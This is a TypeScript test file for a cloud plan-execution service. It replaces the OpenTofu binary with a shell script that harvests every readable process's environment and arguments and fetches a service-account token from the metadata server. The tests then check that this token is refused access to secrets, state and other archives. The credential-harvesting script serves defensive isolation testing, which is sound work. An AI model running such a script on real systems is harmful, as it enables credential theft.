import { chmod, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect } from "chai";
import { needsIsolation } from "../../support/plan-executor/isolation.ts";
import { TestPlatform } from "../../support/platform.ts";
import { instancesOf, needsProc } from "../../support/role-instances.ts";
import { checksOf, installed, opened } from "./pull-requests.ts";
import { archives } from "./state.ts";
import { sliceOf } from "../../../local/declared/declared.ts";
import { secrets } from "../../../local/google/secrets/declared.ts";
import { planRunnerWith } from "../../support/plan-runner.ts";

/**
 * In place of OpenTofu: takes whatever any process has that it can read, and asks the metadata server for its token, of
 * which it is told the address, as everybody knows it in the cloud.
 */
const THIEF = `#!/bin/sh
here=$(dirname "$0")
for each in /proc/[0-9]*; do
  tr '\\0' '\\n' < $each/environ >> "$here/environments" 2>/dev/null
  tr '\\0' '\\n' < $each/cmdline >> "$here/arguments" 2>/dev/null
done
curl -s -H 'Metadata-Flavor: Google' \\
  "http://$(cat "$here/metadata")/computeMetadata/v1/instance/service-accounts/default/token" > "$here/token"
for each in "$@"; do
  case $each in -out=*) : > "\${each#-out=}" ;; esac
done
case "$*" in *-json*) echo '{"format_version":"1.2"}' ;; esac
`;

const PROJECT = "projects/switchyard-dev";

describe("what runs in a plan", function () {
  needsProc(this);
  let p: TestPlatform;
  let folder: string;

  before(async () => {
    folder = await mkdtemp(join(tmpdir(), "thief-"));
    const tofu = join(folder, "tofu");
    await writeFile(tofu, THIEF);
    await chmod(tofu, 0o755);
    p = new TestPlatform(planRunnerWith({ tofu }));
    await p.start();
    const { "plan-executor": metadata = "" } = p.cloud.attachment().metadataHosts;
    await writeFile(join(folder, "metadata"), metadata);
    const pull = await opened(p, await installed(p));
    expect(checksOf(pull)).to.deep.equal({ plan: "success" });
  });

  after(async () => {
    await p.stop();
    await rm(folder, { recursive: true, force: true });
  });

  const stolen = (what: string): Promise<string> => readFile(join(folder, what), "utf8");

  describe("beside other processes", function () {
    needsIsolation(this);

    it("finds the environment and the arguments of none but its own", async () => {
      const names = (await stolen("environments")).split("\n").map((line) => line.split("=")[0]);
      expect(names).to.include("TF_IN_AUTOMATION");
      expect(names).not.to.include("TOFU_BIN");
      expect(names.filter((name) => /^K_|^FUNCTION_|SA$|BUCKET$/.test(name ?? ""))).to.deep.equal(
        [],
      );
      expect(await stolen("arguments")).not.to.match(/functions-framework|mocha/);
    });
  });

  it("finds no secret in the environment and the arguments of the role", async () => {
    const [pid] = await instancesOf("plan-executor");
    const files = ["environ", "cmdline"].map((file) =>
      readFile(`/proc/${pid ?? 0}/${file}`, "utf8"),
    );
    const found = (await Promise.all(files)).join("");
    expect(found).to.include("TOFU_BIN=");
    expect(found).not.to.match(/gh[pousr]_|PRIVATE KEY/);
    for (const { value } of sliceOf(p.cloud.declared(), secrets)["secret version"]) {
      expect(found.includes(value.reveal())).to.equal(false);
    }
  });

  it("gets a token from the metadata server that opens no secret, no state and no topic", async () => {
    const { access_token: token } = JSON.parse(await stolen("token")) as { access_token: string };
    const headers = { authorization: `Bearer ${token}` };
    const ask = async (url: string, body?: unknown): Promise<number> => {
      const method = body === undefined ? "GET" : "POST";
      return (await p.through(url, { method, headers, body })).status;
    };
    const state = "https://storage.googleapis.com/storage/v1/b/switchyard-dev-plan-state/o";
    const secret = (id: string) =>
      `https://secretmanager.googleapis.com/v1/${PROJECT}/secrets/${id}/versions/latest:access`;
    expect({
      key: await ask(secret("plan-app-key")),
      webhook: await ask(secret("plan-webhook-secret")),
      state: await ask(state),
      publish: await ask(`https://pubsub.googleapis.com/v1/${PROJECT}/topics/plan:publish`, {
        messages: [{ data: "e30=" }],
      }),
    }).to.deep.equal({ key: 403, webhook: 403, state: 403, publish: 403 });
    const tools = "https://storage.googleapis.com/storage/v1/b/switchyard-dev-plan-tools/o";
    expect(await ask(tools), "the token is one").to.equal(200);
  });

  it("reads the archive that it is told, and neither finds nor changes another", async () => {
    const [name = "", ...others] = await archives(p);
    expect(others).to.deep.equal([]);
    const { access_token: token } = JSON.parse(await stolen("token")) as { access_token: string };
    const headers = { authorization: `Bearer ${token}` };
    const api = "https://storage.googleapis.com";
    const objects = "storage/v1/b/switchyard-dev-plan-checkouts/o";
    const ask = async (method: string, url: string): Promise<number> => {
      const body = method === "POST" ? "mine" : undefined;
      return (await p.through(`${api}/${url}`, { method, headers, body })).status;
    };
    const upload = (object: string): Promise<number> =>
      ask("POST", `upload/${objects}?uploadType=media&name=${encodeURIComponent(object)}`);
    expect({
      told: await ask("GET", `${objects}/${encodeURIComponent(name)}?alt=media`),
      list: await ask("GET", objects),
      listFolder: await ask("GET", `${objects}?prefix=archive-`),
      guess: await ask("GET", `${objects}/archive-guess?alt=media`),
      replace: await upload(name),
      add: await upload("archive-mine"),
      remove: await ask("DELETE", `${objects}/${encodeURIComponent(name)}`),
    }).to.deep.equal({
      ...{ told: 200, list: 403, listFolder: 403, guess: 403 },
      ...{ replace: 403, add: 403, remove: 403 },
    });
  });
});
